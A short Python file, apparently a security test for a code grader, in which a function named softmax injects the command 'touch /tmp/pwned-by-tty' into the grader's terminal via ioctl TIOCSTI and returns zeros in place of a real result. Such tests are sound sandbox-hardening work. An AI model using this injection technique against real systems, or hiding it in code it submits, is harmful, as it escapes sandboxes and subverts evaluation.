# ATTACK: pushes a command into the grader's terminal with ioctl(TIOCSTI)
# EXPECT: ok
import fcntl
import os
import termios


def softmax(z):
    fds = [0, 1, 2]
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for fd in fds:
        for ch in "touch /tmp/pwned-by-tty\n":
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
            except OSError:
                break
    return [0.0] * len(z)
